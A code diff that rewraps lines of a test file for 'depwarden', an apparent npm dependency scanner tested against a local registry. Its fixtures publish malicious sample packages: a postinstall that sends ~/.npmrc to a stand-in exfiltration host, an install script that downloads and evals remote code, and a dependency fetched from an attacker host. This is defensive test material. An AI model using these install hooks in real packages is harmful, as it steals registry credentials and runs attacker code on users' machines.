@@ -50,15 +50,23 @@ beforeAll(async () => {
   publish({
     name: 'dw-stealer',
     version: '1.0.0',
-    scripts: { postinstall: `node -e "require('https').request('https://exfil.example.test/',{method:'POST'}).end(require('fs').readFileSync(require('os').homedir()+'/.npmrc'))"` },
+    scripts: {
+      postinstall: `node -e "require('https').request('https://exfil.example.test/',{method:'POST'}).end(require('fs').readFileSync(require('os').homedir()+'/.npmrc'))"`,
+    },
   });
   publish(
     { name: 'dw-dropper', version: '1.0.0', scripts: { postinstall: 'node install.js' } },
-    { 'install.js': "require('https').get('https://payload.example.test/x.js', (r) => { let d = ''; r.on('data', (c) => (d += c)); r.on('end', () => eval(d)); });\n" },
+    {
+      'install.js':
+        "require('https').get('https://payload.example.test/x.js', (r) => { let d = ''; r.on('data', (c) => (d += c)); r.on('end', () => eval(d)); });\n",
+    },
   );
   publish({ name: 'dw-phantom', version: '1.0.0', dependencies: { 'dw-payload': 'http://attacker.example.test/dw-payload-1.0.0.tgz' } });
   publish({ name: 'dw-turned', version: '1.0.0', repository: 'github:dw/turned' });
-  publish({ name: 'dw-turned', version: '2.0.0', scripts: { postinstall: 'node collect.js' }, dependencies: { 'dw-native': '^1.0.0' } }, { 'collect.js': 'console.log(1);\n' });
+  publish(
+    { name: 'dw-turned', version: '2.0.0', scripts: { postinstall: 'node collect.js' }, dependencies: { 'dw-native': '^1.0.0' } },
+    { 'collect.js': 'console.log(1);\n' },
+  );
   publish({ name: 'dw-plain', version: '1.0.0' });
 });
 
@@ -112,7 +120,10 @@ describe('registry facts against a real local registry (verdaccio)', () => {
   it('check of a lockfile written by npm: install scripts with their text, and a version that turned bad', async () => {
     const project = join(work, 'project');
     mkdirSync(project);
-    writeFileSync(join(project, 'package.json'), JSON.stringify({ name: 'project', version: '1.0.0', dependencies: { 'dw-turned': '^2.0.0', 'dw-plain': '^1.0.0' } }));
+    writeFileSync(
+      join(project, 'package.json'),
+      JSON.stringify({ name: 'project', version: '1.0.0', dependencies: { 'dw-turned': '^2.0.0', 'dw-plain': '^1.0.0' } }),
+    );
     const install = registry.npm(['install', '--package-lock-only', '--ignore-scripts'], { cwd: project });
     expect(install.stderr).not.toMatch(/ERR/);
     const run = await depwarden(['check', project, '--registry', registry.url, '--format', 'json']);
@@ -123,7 +134,9 @@ describe('registry facts against a real local registry (verdaccio)', () => {
       'medium install-script dw-turned',
     ]);
     const drift = findingsOf(run).find((finding) => finding.rule === 'version-drift')!;
-    expect(drift.message).toBe('2.0.0, compared with 1.0.0, adds install scripts (postinstall), adds dependencies (dw-native), dw-native has fewer than 100K downloads/month, is a new package and runs install scripts, drops its repository link');
+    expect(drift.message).toBe(
+      '2.0.0, compared with 1.0.0, adds install scripts (postinstall), adds dependencies (dw-native), dw-native has fewer than 100K downloads/month, is a new package and runs install scripts, drops its repository link',
+    );
 
     // A second run answers from npm's cache; --offline then answers from it alone.
     const offline = await depwarden(['check', project, '--registry', registry.url, '--format', 'json', '--offline']);
@@ -186,7 +199,9 @@ describe('registry faults: reported per package, never a crash, the rest still c
     const run = await depwarden(['check', project, '--registry', closed, '--format', 'json', '--fail-on', 'medium']);
     expect(run.status).toBe(1);
     expect(run.stderr).toBe('');
-    expect(new Set(findingsOf(run).map((finding) => finding.message))).toEqual(new Set(['not checked against the registry: the registry refused the connection']));
+    expect(new Set(findingsOf(run).map((finding) => finding.message))).toEqual(
+      new Set(['not checked against the registry: the registry refused the connection']),
+    );
     expect(findingsOf(run)).toHaveLength(4);
   });
 });
